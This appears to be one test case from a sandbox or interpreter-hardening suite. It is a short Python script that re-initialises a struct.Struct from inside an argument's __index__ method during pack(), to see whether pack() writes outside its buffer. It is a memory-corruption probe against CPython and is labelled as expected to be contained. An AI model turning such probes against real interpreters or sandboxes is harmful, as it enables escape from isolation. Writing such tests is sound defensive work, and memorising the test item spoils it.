# escape: 224
# policy-wall: optional; it changes its own process alone
# technique: Struct.__init__ from the __index__ of an argument: pack() goes on with other codes in a small buffer
# family: memory
# goal: memory
# expect: contained
import struct
s = struct.Struct('1q2q')
hold = []
class Evil:
    def __index__(self):
        hold.append(s.__init__('9000x4q'))
        return 1
for _ in range(50):
    s.__init__('1q2q')
    try:
        out = s.pack(Evil(), 0x4141414141414141, 0x4141414141414141)
    except struct.error:
        continue
    if len(out) != 24:
        print('ESCAPED: packed', len(out))
    elif out[8:] != b'A' * 16:
        print('ESCAPED: pack() wrote outside its bytes')
        break
